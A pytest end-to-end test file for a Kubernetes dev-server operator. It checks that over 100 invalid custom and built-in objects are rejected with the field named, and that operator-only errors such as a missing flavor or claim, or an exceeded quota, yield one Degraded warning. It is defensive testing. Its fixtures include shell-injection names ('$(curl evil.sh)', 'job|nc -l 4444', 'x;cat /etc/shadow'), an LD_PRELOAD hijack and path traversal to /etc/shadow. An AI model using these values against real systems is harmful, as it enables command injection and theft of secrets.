"""Issue 17, item 4: bad input.

1. A table of invalid objects across every kind -- wrong types, out-of-range numbers, unknown
   enum values, bad names, changes of immutable fields, broken cross-field rules, quotas,
   injection attempts in names, env and commands -- sent to kubesim's HTTP API as a user
   would (kubesim validates our CRDs' openAPIV3Schema and CEL rules, and built-in kinds like
   kube-apiserver): every one is rejected with a message that names the field, and none is
   stored.
2. What only the operator can catch -- a DevServer whose flavor does not exist, whose shared
   claim does not exist, or that needs more than its namespace's quota allows in all --
   ends Degraded with the reason, ONE Warning Event, and no retry storm: over a window of
   the operator's own periods, the reconciles of each are counted.
"""
from __future__ import annotations

import copy
import json
import time
from dataclasses import dataclass, field

import pytest
import urllib3

from _workload import condition, get, items
from _reliability import new_runtime

pytestmark = [pytest.mark.e2e]

G = "torchdev.io/v1alpha1"
NS = "bad-input"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE2eTestKeyForTorchdevEndToEndxxxxxxxxxxxxx bad@test"

BASE = {
    "DevServer": {"owner": "a@example.com", "flavor": "cpu-small"},
    "DevServerFlavor": {"resources": {"requests": {"cpu": "1", "memory": "1Gi"}, "limits": {"cpu": "1", "memory": "1Gi"}}},
    "DevUser": {"email": "u@example.com"},
    "TrainingJob": {"model": "mlp", "dataset": "synthetic", "numWorkers": 2, "gpusPerWorker": 0,
                    "networking": {"backend": "gloo"}},
    "EphemeralAccelerationJob": {"model": "resnet50", "input": {"type": "image", "path": "/artifacts/in.jpg"},
                                 "resources": {"gpu": 0}},
    "UsageRecord": {"user": "a@example.com", "server": "s", "flavor": "cpu-small", "replicas": 1, "gpus": 0,
                    "pricePerHour": "0.1920", "queuedAt": "2026-01-01T00:00:00Z", "startedAt": "2026-01-01T00:00:00Z",
                    "endedAt": "2026-01-01T01:00:00Z", "endReason": "Stopped", "gpuHours": "0", "cost": "0.1920",
                    "idleSavedGPUHours": "0"},
}
PLURAL = {"DevServer": "devservers", "DevServerFlavor": "devserverflavors", "DevUser": "devusers",
          "TrainingJob": "trainingjobs", "EphemeralAccelerationJob": "ephemeralaccelerationjobs",
          "UsageRecord": "usagerecords"}
CLUSTER = {"DevServerFlavor", "DevUser"}


@dataclass
class Bad:
    """An invalid object: ``spec`` merged over the kind's valid BASE (a key set to None is removed),
    or ``name`` instead of a valid one; with ``update``, a valid object is created first and the
    invalid one is the update (immutable fields). ``field``: what the API's message must name."""
    id: str
    kind: str
    field: str
    spec: dict = field(default_factory=dict)
    name: str | None = None
    update: bool = False
    builtin: dict | None = None  # a built-in object (path, body) instead
    strict: bool = False  # fieldValidation=Strict, as kubectl sends it: unknown fields are an error

    def body(self, name: str) -> dict:
        spec = merge(copy.deepcopy(BASE[self.kind]), self.spec)
        return {"apiVersion": G, "kind": self.kind, "metadata": {"name": self.name or name}, "spec": spec}


def merge(base: dict, patch: dict) -> dict:
    for k, v in patch.items():
        if v is None:
            base.pop(k, None)
        elif isinstance(v, dict) and isinstance(base.get(k), dict):
            merge(base[k], v)
        else:
            base[k] = v
    return base


def env(name, value="1"):
    return {"env": [{"name": name, "value": value}]}


CASES = [
    # -- DevServer: types, bounds, enums, formats -------------------------------------------------
    Bad("ds-owner-missing", "DevServer", "spec.owner", {"owner": None}),
    Bad("ds-owner-not-email", "DevServer", "spec.owner", {"owner": "jane"}),
    Bad("ds-owner-type", "DevServer", "spec.owner", {"owner": 42}),
    Bad("ds-flavor-empty", "DevServer", "spec.flavor", {"flavor": ""}),
    Bad("ds-flavor-uppercase", "DevServer", "spec.flavor", {"flavor": "GPU_Big"}),
    Bad("ds-mode-enum", "DevServer", "spec.mode", {"mode": "cluster"}),
    Bad("ds-distributed-required", "DevServer", "spec.distributed", {"mode": "distributed"}),
    Bad("ds-worldsize-zero", "DevServer", "spec.distributed.worldSize", {"mode": "distributed", "distributed": {"worldSize": 0}}),
    Bad("ds-worldsize-huge", "DevServer", "spec.distributed.worldSize", {"mode": "distributed", "distributed": {"worldSize": 4096}}),
    Bad("ds-worldsize-multiple", "DevServer", "spec.distributed.worldSize", {"mode": "distributed", "distributed": {"worldSize": 3, "nprocsPerNode": 2}}),
    Bad("ds-backend-enum", "DevServer", "spec.distributed.backend", {"mode": "distributed", "distributed": {"worldSize": 2, "backend": "mpi"}}),
    Bad("ds-nccl-key", "DevServer", "spec.distributed.ncclSettings", {"mode": "distributed", "distributed": {"worldSize": 2, "ncclSettings": {"LD_PRELOAD": "/tmp/x.so"}}}),
    Bad("ds-home-too-small", "DevServer", "spec.persistentHomeSize", {"persistentHomeSize": "100Mi"}),
    Bad("ds-home-not-quantity", "DevServer", "spec.persistentHomeSize", {"persistentHomeSize": "lots"}),
    Bad("ds-retention-enum", "DevServer", "spec.homeRetentionPolicy", {"homeRetentionPolicy": "Forever"}),
    Bad("ds-pullpolicy-enum", "DevServer", "spec.imagePullPolicy", {"imagePullPolicy": "Sometimes"}),
    Bad("ds-shared-contradiction", "DevServer", "spec.mountSharedVolume", {"mountSharedVolume": False, "sharedVolumeClaimName": "team"}),
    Bad("ds-sshkey-garbage", "DevServer", "spec.sshPublicKeys[0]", {"sshPublicKeys": ["not a key"]}),
    Bad("ds-sshkey-type", "DevServer", "spec.sshPublicKeys", {"sshPublicKeys": KEY}),
    Bad("ds-idle-negative", "DevServer", "spec.lifecycle.idleTimeout", {"lifecycle": {"idleTimeout": -1}}),
    Bad("ds-idle-type", "DevServer", "spec.lifecycle.idleTimeout", {"lifecycle": {"idleTimeout": "1h"}}),
    Bad("ds-duration-zero", "DevServer", "spec.lifecycle.duration", {"lifecycle": {"duration": "0h"}}),
    Bad("ds-duration-format", "DevServer", "spec.lifecycle.duration", {"lifecycle": {"duration": "1 day"}}),
    Bad("ds-keepalive-format", "DevServer", "spec.lifecycle.keepAliveUntil", {"lifecycle": {"keepAliveUntil": "tomorrow"}}),
    Bad("ds-suspend-type", "DevServer", "spec.suspend", {"suspend": "yes"}),
    Bad("ds-unknown-field", "DevServer", "spec.gpus", {"gpus": 8}, strict=True),
    # names and injection attempts
    Bad("ds-name-injection", "DevServer", "metadata.name", name="dev;rm -rf /"),
    Bad("ds-name-subshell", "DevServer", "metadata.name", name="$(curl evil.sh)"),
    Bad("ds-name-too-long", "DevServer", "metadata.name", name="a" * 53),
    Bad("ds-name-leading-digit", "DevServer", "metadata.name", name="1dev"),
    Bad("ds-env-name-injection", "DevServer", "spec.env[0].name", env("A;rm -rf /")),
    Bad("ds-env-name-equals", "DevServer", "spec.env[0].name", env("LD_PRELOAD=/tmp/x.so")),
    Bad("ds-env-name-subshell", "DevServer", "spec.env[0].name", env("$(id)")),
    Bad("ds-env-value-and-from", "DevServer", "spec.env[0]", {"env": [{"name": "A", "value": "1", "valueFrom": {"fieldRef": {"fieldPath": "metadata.name"}}}]}),
    Bad("ds-env-from-two", "DevServer", "spec.env[0].valueFrom", {"env": [{"name": "A", "valueFrom": {"fieldRef": {"fieldPath": "x"}, "secretKeyRef": {"key": "k"}}}]}),
    Bad("ds-secretref-key", "DevServer", "spec.sshKeySecretRef.key", {"sshKeySecretRef": {"name": "keys", "key": "../../etc/passwd"}}),
    Bad("ds-priorityclass-name", "DevServer", "spec.priorityClassName", {"priorityClassName": "High Priority"}),
    # immutable fields
    Bad("ds-mode-immutable", "DevServer", "spec.mode", {"mode": "distributed", "distributed": {"worldSize": 2}}, update=True),
    Bad("ds-storageclass-immutable", "DevServer", "spec.homeStorageClassName", {"homeStorageClassName": "efs-sc"}, update=True),
    Bad("ds-home-shrink", "DevServer", "spec.persistentHomeSize", {"persistentHomeSize": "50Gi"}, update=True),
    # -- DevServerFlavor ------------------------------------------------------------------------
    Bad("dsf-gpu-count-bound", "DevServerFlavor", "spec.gpu.count", {"gpu": {"count": 17}}),
    Bad("dsf-gpu-count-negative", "DevServerFlavor", "spec.gpu.count", {"gpu": {"count": -1}}),
    Bad("dsf-gpu-mismatch", "DevServerFlavor", "spec.gpu.count", {"gpu": {"count": 2}, "resources": {"limits": {"nvidia.com/gpu": "1"}}}),
    Bad("dsf-limit-below-request", "DevServerFlavor", "spec.resources.limits", {"resources": {"limits": {"cpu": "500m"}}}),
    Bad("dsf-resource-key", "DevServerFlavor", "spec.resources.requests", {"resources": {"requests": {"bitcoin-miner": "1"}}}),
    Bad("dsf-quantity-negative", "DevServerFlavor", "spec.resources.requests[cpu]", {"resources": {"requests": {"cpu": -2}}}),
    Bad("dsf-quantity-format", "DevServerFlavor", "spec.resources.limits.memory", {"resources": {"limits": {"memory": "1 GB"}}}),
    Bad("dsf-price-format", "DevServerFlavor", "spec.pricePerHour", {"pricePerHour": "$1"}),
    Bad("dsf-shm-small", "DevServerFlavor", "spec.shmSize", {"shmSize": "1Ki"}),
    Bad("dsf-toleration-operator", "DevServerFlavor", "spec.tolerations[0].operator", {"tolerations": [{"key": "k", "operator": "Maybe"}]}),
    Bad("dsf-toleration-seconds", "DevServerFlavor", "spec.tolerations[0]", {"tolerations": [{"key": "k", "tolerationSeconds": 5, "effect": "NoSchedule"}]}),
    Bad("dsf-gpu-type-pattern", "DevServerFlavor", "spec.gpu.type", {"gpu": {"type": "NVIDIA H100"}}),
    Bad("dsf-description-long", "DevServerFlavor", "spec.description", {"description": "x" * 300}),
    # -- DevUser: quotas and the rest --------------------------------------------------------------
    Bad("du-email-missing", "DevUser", "spec.email", {"email": None}),
    Bad("du-email-format", "DevUser", "spec.email", {"email": "not-an-email"}),
    Bad("du-quota-gpus-negative", "DevUser", "spec.quota.gpus", {"quota": {"gpus": -1}}),
    Bad("du-quota-gpus-huge", "DevUser", "spec.quota.gpus", {"quota": {"gpus": 100000}}),
    Bad("du-quota-cpu-format", "DevUser", "spec.quota.cpu", {"quota": {"cpu": "many"}}),
    Bad("du-quota-pvcs-zero", "DevUser", "spec.quota.persistentVolumeClaims", {"quota": {"persistentVolumeClaims": 0}}),
    Bad("du-quota-devservers-bound", "DevUser", "spec.quota.devServers", {"quota": {"devServers": 1001}}),
    Bad("du-quota-reservation-format", "DevUser", "spec.quota.maxReservation", {"quota": {"maxReservation": "forever"}}),
    Bad("du-quota-flavor-name", "DevUser", "spec.quota.flavors[0].name", {"quota": {"flavors": [{"name": "Big GPUs"}]}}),
    Bad("du-quota-flavor-gpus", "DevUser", "spec.quota.flavors[0].gpus", {"quota": {"flavors": [{"name": "x", "gpus": -3}]}}),
    Bad("du-cidr", "DevUser", "spec.network.sshAllowedCIDRs[0]", {"network": {"sshAllowedCIDRs": ["0.0.0.0/0; curl evil"]}}),
    Bad("du-deletion-policy-enum", "DevUser", "spec.deletionPolicy", {"deletionPolicy": "Shred"}),
    Bad("du-name-injection", "DevUser", "metadata.name", name="alice`id`"),
    Bad("du-name-uppercase", "DevUser", "metadata.name", name="Alice"),
    Bad("du-shared-shrink", "DevUser", "spec.sharedStorage.size", {"sharedStorage": {"size": "1Gi"}}, update=True),
    Bad("du-shared-class-immutable", "DevUser", "spec.sharedStorage.storageClassName", {"sharedStorage": {"storageClassName": "gp3"}}, update=True),
    # -- TrainingJob --------------------------------------------------------------------------------
    Bad("tj-workers-zero", "TrainingJob", "spec.numWorkers", {"numWorkers": 0}),
    Bad("tj-workers-type", "TrainingJob", "spec.numWorkers", {"numWorkers": "two"}),
    Bad("tj-gpus-bound", "TrainingJob", "spec.gpusPerWorker", {"gpusPerWorker": 17}),
    Bad("tj-nccl-without-gpu", "TrainingJob", "spec.networking.backend", {"networking": {"backend": "nccl"}}),
    Bad("tj-gpu-limit-mismatch", "TrainingJob", "spec.resources", {"gpusPerWorker": 1, "networking": {"backend": "nccl"}, "resources": {"limits": {"nvidia.com/gpu": "2"}}}),
    Bad("tj-reserved-env", "TrainingJob", "spec.env", env("MASTER_ADDR", "evil.example.com")),
    Bad("tj-env-name-injection", "TrainingJob", "spec.env[0].name", env("X$(reboot)")),
    Bad("tj-command-type", "TrainingJob", "spec.command", {"command": "python train.py; rm -rf /"}),
    Bad("tj-command-item-type", "TrainingJob", "spec.command[0]", {"command": [{"sh": "-c"}]}),
    Bad("tj-args-too-many", "TrainingJob", "spec.args", {"args": ["x"] * 65}),
    Bad("tj-optimizer-enum", "TrainingJob", "spec.hyperparameters.optimizer", {"hyperparameters": {"optimizer": "magic"}}),
    Bad("tj-lr-bound", "TrainingJob", "spec.hyperparameters.learningRate", {"hyperparameters": {"learningRate": 11}}),
    Bad("tj-batch-zero", "TrainingJob", "spec.hyperparameters.batchSize", {"hyperparameters": {"batchSize": 0}}),
    Bad("tj-s3-without-bucket", "TrainingJob", "spec.checkpoint.storage.s3Bucket", {"checkpoint": {"storage": {"type": "s3"}}}),
    Bad("tj-resume-gcs", "TrainingJob", "spec.checkpoint.resumeFrom", {"checkpoint": {"resumeFrom": "gs://bucket/ckpt"}}),
    Bad("tj-s3prefix-dotdot", "TrainingJob", "spec.checkpoint.storage.s3Prefix", {"checkpoint": {"storage": {"type": "s3", "s3Bucket": "b-1", "s3Prefix": "dev-me/../dev-bob/job"}}}),
    Bad("tj-claim-name", "TrainingJob", "spec.checkpoint.storage.claimName", {"checkpoint": {"storage": {"claimName": "../etc"}}}),
    Bad("tj-mountpath-relative", "TrainingJob", "spec.checkpoint.storage.mountPath", {"checkpoint": {"storage": {"mountPath": "ckpt"}}}),
    Bad("tj-s3-endpoint", "TrainingJob", "spec.checkpoint.storage.s3Endpoint", {"checkpoint": {"storage": {"type": "s3", "s3Bucket": "b-1", "s3Endpoint": "file:///etc"}}}),
    Bad("tj-queue-name", "TrainingJob", "spec.scheduling.queueName", {"scheduling": {"queueName": "Team Queue"}}),
    Bad("tj-port-bound", "TrainingJob", "spec.networking.masterPort", {"networking": {"backend": "gloo", "masterPort": 80}}),
    Bad("tj-name-injection", "TrainingJob", "metadata.name", name="job|nc -l 4444"),
    Bad("tj-workers-immutable", "TrainingJob", "spec.numWorkers", {"numWorkers": 4}, update=True),
    Bad("tj-gpus-immutable", "TrainingJob", "spec.gpusPerWorker", {"gpusPerWorker": 2}, update=True),
    # -- EphemeralAccelerationJob -------------------------------------------------------------------
    Bad("eaj-model-missing", "EphemeralAccelerationJob", "spec.model", {"model": None}),
    Bad("eaj-model-outside", "EphemeralAccelerationJob", "spec.model", {"model": "/etc/passwd"}),
    Bad("eaj-input-traversal", "EphemeralAccelerationJob", "spec.input.path", {"input": {"path": "/artifacts/../etc/shadow"}}),
    Bad("eaj-input-type-enum", "EphemeralAccelerationJob", "spec.input.type", {"input": {"type": "video"}}),
    Bad("eaj-output-not-json", "EphemeralAccelerationJob", "spec.output.path", {"output": {"path": "/artifacts/out.sh"}}),
    Bad("eaj-gpu-bound", "EphemeralAccelerationJob", "spec.resources.gpu", {"resources": {"gpu": 9}}),
    Bad("eaj-ttl-negative", "EphemeralAccelerationJob", "spec.ttlSecondsAfterFinished", {"ttlSecondsAfterFinished": -1}),
    Bad("eaj-pvc-ttl-shorter", "EphemeralAccelerationJob", "spec.pvcTTLSecondsAfterFinished", {"ttlSecondsAfterFinished": 600, "pvcTTLSecondsAfterFinished": 60}),
    Bad("eaj-pvcsize-zero", "EphemeralAccelerationJob", "spec.pvcSize", {"pvcSize": "0"}),
    Bad("eaj-storageclass", "EphemeralAccelerationJob", "spec.storageClass", {"storageClass": "gp3;ls"}),
    Bad("eaj-name-injection", "EphemeralAccelerationJob", "metadata.name", name="job&&reboot"),
    Bad("eaj-model-immutable", "EphemeralAccelerationJob", "spec", {"model": "mobilenet_v3_small"}, update=True),
    # -- UsageRecord ----------------------------------------------------------------------------------
    Bad("ur-reason-enum", "UsageRecord", "spec.endReason", {"endReason": "Vanished"}),
    Bad("ur-gpus-per-replica", "UsageRecord", "spec.gpus", {"replicas": 2, "gpus": 3}),
    Bad("ur-cost-format", "UsageRecord", "spec.cost", {"cost": "-5"}),
    Bad("ur-user-format", "UsageRecord", "spec.user", {"user": "root"}),
    Bad("ur-started-format", "UsageRecord", "spec.startedAt", {"startedAt": "yesterday"}),
    Bad("ur-spec-immutable", "UsageRecord", "spec", {"cost": "0.0001"}, update=True),
    # -- built-in kinds users create (namespaces, devctl's volumes and helper pods) ---------------------
    Bad("ns-name-injection", "Namespace", "metadata.name", builtin={
        "path": "/api/v1/namespaces", "body": {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "dev-$(id)"}}}),
    Bad("pvc-negative-size", "PersistentVolumeClaim", "spec.resources.requests[storage]", builtin={
        "path": f"/api/v1/namespaces/{NS}/persistentvolumeclaims",
        "body": {"apiVersion": "v1", "kind": "PersistentVolumeClaim", "metadata": {"name": "artifacts-bad"},
                 "spec": {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "-1Gi"}}}}}),
    Bad("pod-env-name-injection", "Pod", "spec.containers[0].env[0].name", builtin={
        "path": f"/api/v1/namespaces/{NS}/pods",
        "body": {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "helper-bad"},
                 "spec": {"containers": [{"name": "c", "image": "busybox:1.37", "env": [{"name": "A;reboot", "value": "1"}]}]}}}),
    Bad("pod-command-string", "Pod", "spec.containers[0].command", builtin={
        "path": f"/api/v1/namespaces/{NS}/pods",
        "body": {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "helper-cmd"},
                 "spec": {"containers": [{"name": "c", "image": "busybox:1.37", "command": "rm -rf /"}]}}}),
    Bad("configmap-name-injection", "ConfigMap", "metadata.name", builtin={
        "path": f"/api/v1/namespaces/{NS}/configmaps",
        "body": {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "x;cat /etc/shadow"}, "data": {}}}),
]


@pytest.fixture(scope="module")
def http(sim):
    sim.call(sim.api.create, "namespaces", {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": NS}})
    return urllib3.PoolManager(retries=False, timeout=30)


def _path(kind: str, name: str | None = None) -> str:
    base = f"/apis/{G}/" + ("" if kind in CLUSTER else f"namespaces/{NS}/") + PLURAL[kind]
    return base + (f"/{name}" if name else "")


def _send(http, sim, method: str, path: str, body, ctype="application/json", strict=False):
    url = sim.url + path + ("?fieldValidation=Strict" if strict else "")
    r = http.request(method, url, body=json.dumps(body), headers={"Content-Type": ctype})
    return r.status, json.loads(r.data or b"{}")


def test_the_table_is_large_and_covers_every_kind():
    assert len(CASES) >= 80
    assert len({c.id for c in CASES}) == len(CASES)
    assert set(PLURAL) <= {c.kind for c in CASES}
    assert {c.kind for c in CASES if c.update} >= {"DevServer", "DevUser", "TrainingJob", "EphemeralAccelerationJob",
                                                   "UsageRecord"}


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_invalid_object_is_rejected_naming_the_field(sim, http, case):
    name = case.id[:40]
    if case.builtin:
        code, status = _send(http, sim, "POST", case.builtin["path"], case.builtin["body"])
        stored = (case.builtin["path"].rsplit("/", 1)[-1], case.builtin["body"]["metadata"]["name"])
    elif case.update:
        valid = {"apiVersion": G, "kind": case.kind, "metadata": {"name": name}, "spec": copy.deepcopy(BASE[case.kind])}
        if case.kind == "DevUser":
            valid["spec"]["sharedStorage"] = {"size": "10Gi"}
        assert _send(http, sim, "POST", _path(case.kind), valid)[0] == 201
        code, status = _send(http, sim, "PATCH", _path(case.kind, name), {"spec": case.spec},
                             "application/merge-patch+json")
        stored = None
    else:
        code, status = _send(http, sim, "POST", _path(case.kind), case.body(name), strict=case.strict)
        stored = (PLURAL[case.kind], case.name or name)
    assert code in (400, 422), (code, status)
    message = status.get("message", "")
    fields = [c.get("field") for c in (status.get("details") or {}).get("causes") or []]
    # the field of a cause, or -- a rule of the whole object (metadata.name), a strict decoding
    # error -- named by the message itself
    named = case.field in fields or (not any(fields) and case.field in message)
    assert named, f"{case.field} is not named: causes {fields}, message {message}"
    if stored is not None:  # nothing of it was stored
        listed = [o["metadata"]["name"] for r in _resources(stored[0]) for o in items(sim, r)]
        assert stored[1] not in listed
    elif case.update:  # the stored object is unchanged
        obj = get(sim, f"{PLURAL[case.kind]}.torchdev.io", "" if case.kind in CLUSTER else NS, name)
        assert obj["metadata"]["generation"] == 1


def _resources(plural: str) -> list[str]:
    return [f"{plural}.torchdev.io"] if plural in PLURAL.values() else [plural]


# -- what only the operator can catch -----------------------------------------------------------------
PROBLEMS_NS = "dev-bad-problems"
WINDOW_S = 20.0  # the look-again period of these problems is 60 s: at most one more look in the window


def _devserver(name: str, **spec) -> dict:
    return {"apiVersion": G, "kind": "DevServer", "metadata": {"name": name},
            "spec": {"owner": "a@example.com", "flavor": "cpu-small", "sshPublicKeys": [KEY], **spec}}


def test_operator_only_problems_are_degraded_once_without_a_retry_storm(sim, figures):
    sim.call(sim.api.create, "namespaces", {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": PROBLEMS_NS}})
    sim.call(sim.api.create, "resourcequotas", {
        "apiVersion": "v1", "kind": "ResourceQuota", "metadata": {"name": "team-quota"},
        "spec": {"hard": {"requests.cpu": "4", "requests.memory": "16Gi", "requests.nvidia.com/gpu": "0"}}}, PROBLEMS_NS)
    cases = {"no-flavor": ("FlavorNotFound", "spec.flavor", {"flavor": "no-such-flavor"}),
             "no-claim": ("ClaimNotFound", "spec.sharedVolumeClaimName", {"sharedVolumeClaimName": "team-data"}),
             "too-big": ("QuotaExceeded", "spec.flavor", {"flavor": "gpu-a10g-1"})}
    with new_runtime(sim) as rt:
        for name, (_, _, spec) in cases.items():
            sim.call(sim.api.create, "devservers.torchdev.io", _devserver(name, **spec), PROBLEMS_NS)
        for name, (reason, fieldname, _) in cases.items():
            obj = sim.wait_for(lambda n=name, r=reason: (lambda o: o if condition(o or {}, "Degraded").get("reason") == r
                                                         else None)(get(sim, "devservers.torchdev.io", PROBLEMS_NS, n)),
                               120, interval=0.1, message=f"{name} Degraded {reason}")
            assert condition(obj, "Degraded")["status"] == "True"
            assert fieldname in condition(obj, "Degraded")["message"]
        assert rt.wait_idle(60)
        before = {n: _reconciles(rt, n) for n in cases}
        events_before = {n: _warnings(sim, n, r) for n, (r, _, _) in cases.items()}
        start = time.monotonic()
        # the window: the operator's own state, sampled; nothing it does in it may be a storm
        sim.wait_for(lambda: time.monotonic() - start >= WINDOW_S and rt.is_idle(), WINDOW_S + 60, interval=0.5,
                     message="the observation window")
        after = {n: _reconciles(rt, n) for n in cases}
        writes = [r for r in sim.requests(20000) if r["verb"] in ("create", "update", "patch", "delete")
                  and r["time"] >= time.time() - (time.monotonic() - start)]
        counters = rt.counters("DevServer")
    for name, (reason, _, _) in cases.items():
        assert _warnings(sim, name, reason) == events_before[name] == 1, f"{name}: one Warning Event {reason}"
        assert before[name] <= 4, f"{name}: {before[name]} reconciles to report the problem"
        assert after[name] - before[name] <= 1, f"{name}: {after[name] - before[name]} reconciles in {WINDOW_S}s"
        assert get(sim, "statefulsets.apps", PROBLEMS_NS, name) is None  # nothing was created
    assert [w["path"] for w in writes if PROBLEMS_NS in w["path"]] == []  # the looks write nothing
    figures("item 4: operator-only problems", {
        "cases": {n: r for n, (r, _, _) in cases.items()}, "reconciles_to_report": before,
        f"reconciles_in_{int(WINDOW_S)}s_after": {n: after[n] - before[n] for n in cases},
        "warning_events": {n: 1 for n in cases}, "failed_reconciles": counters["failed"],
        "invalid_objects_rejected": len(CASES)})


def _reconciles(rt, name: str) -> int:
    return len([r for r in rt.history("DevServer") if r.namespace == PROBLEMS_NS and r.name == name])


def _warnings(sim, name: str, reason: str) -> int:
    return len([e for e in items(sim, "events", PROBLEMS_NS) if e.get("type") == "Warning"
                and e.get("reason") == reason and (e.get("involvedObject") or {}).get("name") == name])
